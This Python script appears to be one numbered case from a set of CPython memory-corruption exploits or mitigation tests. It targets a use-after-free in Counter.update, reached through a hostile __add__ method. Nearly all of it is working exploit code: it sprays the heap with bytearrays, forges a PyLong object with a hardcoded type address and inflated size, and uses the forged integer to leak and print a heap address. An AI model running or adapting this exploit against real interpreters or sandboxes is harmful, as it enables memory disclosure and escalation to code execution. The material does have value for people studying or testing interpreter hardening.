# technique: case 567 with the outer class check off: the count Counter.update adds to is held (pyhold.c's _count_elements), so freeing it from __add__ only drops the dict's reference and the add sees a live object ('V' + int: TypeError)
# expect: any
from collections import Counter
PYLONG_TYPE = 0x1011e60          # &PyLong_Type of the worker it was found on (non-PIE); any build shows the leak's shape

def payload(ndigits):
    obj = bytearray(64)                                     # the object part of the 80-byte block
    obj[0:8] = (1 << 40).to_bytes(8, 'little')            # ob_refcnt
    obj[8:16] = PYLONG_TYPE.to_bytes(8, 'little')          # ob_type
    obj[16:24] = ndigits.to_bytes(8, 'little')             # ob_size: 10 digits are ours, the rest is the next block
    return bytes(16) + bytes(obj[:63])                      # + GC header; 79 bytes -> an 80-byte buffer

class V:
    __slots__ = ('a', 'b', 'c', 'd', 'e', 'f')             # 16 (GC head) + 64 = 80-byte block
    @staticmethod
    def __add__(other):
        c['k'] = 0                                          # frees the value _count_elements is adding to
        for i in range(16):
            junk.append(bytearray(P))                       # its block -> our bytes
        return NotImplemented                               # -> long_add(<freed block>, 1)

junk = []
keep = [V() for _ in range(200)]                            # victims, with live V neighbours
out = []
for n, idx in ((11, 100), (12, 102)):
    P = payload(n)
    c = Counter()
    c['k'] = keep[idx]
    keep[idx] = None                                        # the Counter holds the only reference
    c.update(['k'])
    out.append(c['k'])
lo = (out[0] - 1) >> 300                                    # digit 10 = low 32 bits of the neighbour's gc_next
hi = (out[1] - 1) >> 300                                    # digits 10,11 of another victim: gives the high half
print("fake int read:", type(out[0]).__name__, out[0].bit_length(), "bits")
print("leaked heap word: " + hex(lo + (((hi - lo) >> 30) << 32)))
